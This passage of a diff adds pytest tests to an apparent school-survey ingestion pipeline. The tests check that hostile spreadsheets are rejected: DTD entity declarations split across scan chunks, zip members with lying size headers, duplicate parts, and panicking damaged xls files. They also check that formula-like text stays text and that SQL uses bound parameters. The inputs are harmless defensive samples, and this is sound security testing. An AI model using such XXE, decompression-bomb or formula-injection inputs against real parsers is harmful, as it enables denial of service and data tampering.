+        with pytest.raises(CalamineError):
+            with CalamineWorkbook.from_filelike(io.BytesIO(BY_NAME[name].content)) as wb:
+                wb.get_sheet_by_index(0).to_python()
+
+
+def test_dtd_is_found_across_chunk_boundaries() -> None:
+    """Parts are inflated and scanned in 1 MiB chunks: a declaration cut by a boundary is still
+    seen, and comments or CDATA cut the same way are not mistaken for one."""
+    parts = zip_parts(BY_NAME["good_xlsx"].content)
+    xml = parts["xl/worksheets/sheet1.xml"]
+    root = xml.index(b"<worksheet")
+    for offset in range(-10, 3):
+        pad = b" " * ((1 << 20) + offset - root)
+        parts["xl/worksheets/sheet1.xml"] = xml[:root] + pad + b"<!ENTITY x 'y'>" + xml[root:]
+        with pytest.raises(SourceError, match="declares a DTD"):
+            read_tables(rezip(parts), "f.xlsx", Limits(max_compression_ratio=10_000))
+    for text in (b"<!-- a comment -->", b"<![CDATA[a]]>", b"<!ENTITY x 'y'>"):
+        for cut in range(1, len(text)):
+            scan = _DtdScan("f.xlsx", "p.xml", b"<")
+            try:
+                scan.feed(b"<a>" + text[:cut])
+                scan.feed(text[cut:] + b"</a>")
+                refused = False
+            except SourceError:
+                refused = True
+            assert refused == text.startswith(b"<!ENTITY"), (text, cut)
+
+
+def test_zip_members_are_checked_even_when_never_read_here() -> None:
+    """styles.xml is calamine's to read, not ours: a lying header there is still caught."""
+    good = BY_NAME["good_xlsx"].content
+    styles = zip_parts(good)["xl/styles.xml"]
+    parts = zip_parts(good)
+    parts["xl/styles.xml"] = styles + b" " * 5_000_000
+    content = lying_header(rezip(parts), "xl/styles.xml", len(styles))
+    with pytest.raises(SourceError, match=r"part xl/styles.xml unpacks to more than the"):
+        read_tables(content, "f.xlsx", Limits())
+
+
+def test_a_panic_inside_calamine_fails_the_file_alone() -> None:
+    """calamine panics on some damaged xls (this FILEPASS one, were it not caught before); the
+    panic arrives as pyo3's PanicException, a BaseException, and must become a SourceError."""
+    with pytest.raises(SourceError, match=r"^f.xls: damaged or unsupported spreadsheet"):
+        _read_calamine(encrypted_xls(), "f.xls", Limits(), {})
+
+
+def test_duplicate_part_names_are_refused() -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zf:
+        for name, data in zip_parts(BY_NAME["good_xlsx"].content).items():
+            zf.writestr(name, data)
+        with pytest.warns(UserWarning):
+            zf.writestr("xl/workbook.xml", b"<workbook/>")
+    with pytest.raises(SourceError, match="two parts named xl/workbook.xml"):
+        read_tables(out.getvalue(), "f.xlsx", Limits())
+
+
+# --------------------------------------------------------------------------------------------
+# Injection: respondent text stays text
+
+
+def test_write_cell_stores_formula_like_text_as_text(tmp_path: Path) -> None:
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    assert ws is not None
+    for i, text in enumerate(INJECTIONS, start=1):
+        write_cell(ws, i, 1, text)
+    wb.save(tmp_path / "w.xlsx")
+    again = openpyxl.load_workbook(tmp_path / "w.xlsx")
+    ws2 = again.active
+    assert ws2 is not None
+    assert [(c.value, c.data_type) for (c,) in ws2.iter_rows()] == [(t, "s") for t in INJECTIONS]
+    assert b"<f>" not in zip_parts((tmp_path / "w.xlsx").read_bytes())["xl/worksheets/sheet1.xml"]
+
+
+def test_sql_is_built_from_bound_parameters_only() -> None:
+    """No f-string, %- or +-built SQL outside tests carries data: the few formatted statements
+    take fixed identifiers (quoted by the dialect) or integer constants. A new one fails here
+    until it is looked at and listed."""
+    import ast
+
+    root = Path(__file__).resolve().parents[1]
+    keyword = re.compile(
+        r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|ALTER|ANALYZE|PRAGMA|COPY|WHERE|VALUES)\b"
+    )
+    found = set()
+    for folder in ("flows", "warehouse", "schemas", "expectations"):
+        for path in sorted((root / folder).rglob("*.py")):
+            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+                text = None
+                if isinstance(node, ast.JoinedStr):
+                    text = "".join(str(v.value) for v in node.values if isinstance(v, ast.Constant))
+                elif isinstance(node, ast.BinOp) and isinstance(node.left, ast.Constant):
+                    text = str(node.left.value)
+                elif isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "format":
+                    value = getattr(node.func, "value", None)
+                    text = str(value.value) if isinstance(value, ast.Constant) else None
+                if text and keyword.search(text):
+                    found.add((path.relative_to(root).as_posix(), text.strip()))
+    assert found == {
+        ("warehouse/db.py", "PRAGMA busy_timeout="),  # an int constant, formatted with :d
+        ("warehouse/marts.py", "ANALYZE"),  # fixed table names, quoted by the dialect
+        # identifiers quoted by the dialect, values bound: "?" placeholders, executemany
+        ("warehouse/load.py", "INSERT INTO {} ({}) VALUES ({})"),
+    }
+
+
+# --------------------------------------------------------------------------------------------
+# End to end: one province, every case a school of its own, beside good schools
+
+CONFIG = """\
+campaign:
+  id: H-2024
+  name: Khảo sát thử nghiệm tệp xấu
+  school_year: 2024-2025
+  opens: 2024-10-01
+  closes: 2024-10-31
+  deadline: 2024-10-31
+  province_code: HX
+registry:
+  schools: schools.csv
+  sources: sources.csv
+output: output
+run:
+  concurrency: 4
+"""
+AS_OF = dt.datetime(2024, 11, 5, 2, 0)
+
+
+def code_of(case: Case) -> str:
+    return f"H{CASES.index(case) + 1:02d}"
+
+
+def make_hostile_province(folder: Path) -> Path:
+    """Every case as the only source of a school of its own; returns the config path."""
+    (folder / "submissions").mkdir()
+    schools = ["school_code,school_name,level,unit_code,unit_name,enrollment"]
+    sources = ["school_code,questionnaire,kind,location"]
+    for case in CASES:
+        code = code_of(case)
+        (folder / "submissions" / case.filename).write_bytes(case.content)
+        schools.append(f"{code},Trường Tiểu học {case.name},TH,U1,Phường Một,300")
+        kind = "csv" if case.filename.endswith((".csv", ".txt")) else "excel"
+        where = f"submissions/{case.filename}" + (f"#{case.sheet}" if case.sheet else "")
+        sources.append(f"{code},CMHS_TH,{kind},{where}")
+    (folder / "schools.csv").write_text("\n".join(schools) + "\n", encoding="utf-8")
+    (folder / "sources.csv").write_text("\n".join(sources) + "\n", encoding="utf-8")
+    (folder / "khaosat.yaml").write_text(CONFIG + LIMITS_YAML, encoding="utf-8")
+    return folder / "khaosat.yaml"
+
+
+def sql(engine: sa.Engine, text: str, **params: object) -> list[dict[str, object]]:
+    with engine.connect() as conn:
+        return [dict(r._mapping) for r in conn.execute(sa.text(text), params)]
+
+
+def test_hostile_province_end_to_end(
+    tmp_path: Path,
+    prefect_harness: None,
+    capfd: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    settings = load_settings(make_hostile_province(tmp_path), env={})
+    summary = nightly.run(settings, as_of=AS_OF)
+    outcomes = {o.source.school_code: o for o in summary.outcomes}
+    assert len(outcomes) == len(CASES)
+
+    for case in CASES:
+        outcome = outcomes[code_of(case)]
+        location = f"submissions/{case.filename}" + (f"#{case.sheet}" if case.sheet else "")
+        if case.reason is None:
+            assert outcome.status == "loaded", (case.name, outcome.message)
+            continue
+        assert outcome.status == "failed", case.name
+        # one line, school and file first, then the reason
+        assert outcome.message.startswith(f"{code_of(case)} {location}: "), outcome.message
+        assert "\n" not in outcome.message
+        assert case.reason in outcome.message, (case.name, outcome.message)
+    assert summary.exit_code == 1
+
+    engine = db.connect(settings.warehouse_url)
+    ledger = {
+        r["school_code"]: r
+        for r in sql(engine, "SELECT school_code, status, message FROM load_ledger")
+    }
+    assert {c: r["status"] for c, r in ledger.items()} == {
+        code: o.status for code, o in outcomes.items()
+    }
+
+    # The good schools' figures, by hand. good_xlsx and good_csv hold ANSWERS; TC1 "=1+2" of
+    # the fifth respondent is rejected (the response stays, with its other answers).
+    tiep_can = [5, 4, 3, 4, 4, 4, 5, 2, 4]  # TC1 ×4, TC2 ×5
+    chung = [5, 4, 4, 3, 4]
+    want = {
+        "TIEP_CAN": (5, sum(tiep_can) / 9, 100 * 7 / 9),
+        "CHUNG": (5, sum(chung) / 5, 100 * 4 / 5),
+    }
+    marts = sql(engine, "SELECT * FROM mart_school_dimension")
+    by_school: dict[str, dict[str, tuple[object, ...]]] = {}
+    for r in marts:
+        by_school.setdefault(str(r["school_code"]), {})[str(r["dimension"])] = (
+            r["n_respondents"],
+            pytest.approx(r["mean_score"]),
+            pytest.approx(r["pct_satisfied"]),
+        )
+    for name in (
+        "good_xlsx",
+        "good_csv",
+        "blank_at_xfd1",
+        "blank_at_xfd1048576",
+        "used_range_claim",
+        "several_sheets",
+        "configured_sheet",  # not its first sheet, which holds two answers only
+    ):
+        got = by_school[code_of(BY_NAME[name])]
+        assert {d: got[d] for d in want} == want, name
+    # The same CSV in four encodings: the same figures.
+    twins = [
+        by_school[code_of(BY_NAME[n])]
+        for n in ("good_vietnamese_csv", "cp1258_csv", "utf16_unicode_text", "utf16_without_bom")
+    ]
+    assert all(t == twins[0] for t in twins) and twins[0]["CHUNG"][0] == 2
+
+    # Formulas without values: rejected cell by cell with that reason, never a blank or a guess.
+    for name in ("formulas_without_values", "ods_formulas_far_blank"):
+        rejected = sql(
+            engine,
+            "SELECT cell, raw_value, rule, reason FROM quarantine WHERE school_code = :c "
+            "ORDER BY cell",
+            c=code_of(BY_NAME[name]),
+        )
+        assert [(r["cell"], r["rule"], r["reason"]) for r in rejected] == [
+            ("C2", "formula_without_value", "công thức không có giá trị"),
+            ("F4", "formula_without_value", "công thức không có giá trị"),
+        ], name
+        assert rejected[0]["raw_value"] == "=4+1"
+
+    # Injection: respondents' text reaches the warehouse unchanged, and the feedback workbook
+    # shows the rejected "=1+2" as text, not as a formula.
+    comments = sql(
+        engine,
+        "SELECT r.comment FROM response r JOIN source s ON s.source_id = r.source_id "
+        "WHERE s.school_code = :c ORDER BY r.response_no",
+        c=code_of(BY_NAME["good_xlsx"]),
+    )
+    assert [r["comment"] for r in comments][:4] == INJECTIONS
+    feedback = tmp_path / "output" / "feedback" / f"{code_of(BY_NAME['good_xlsx'])}.xlsx"
+    cells = [c for ws in openpyxl.load_workbook(feedback) for row in ws.iter_rows() for c in row]
+    formula_text = [c for c in cells if c.value == "=1+2"]
+    assert formula_text and all(c.data_type == "s" for c in formula_text)
+    assert not any(c.data_type == "f" for c in cells)
+
+    # Expected failures are outcomes, not crashes: no traceback anywhere.
+    out, err = capfd.readouterr()
+    assert "Traceback" not in out + err + caplog.text
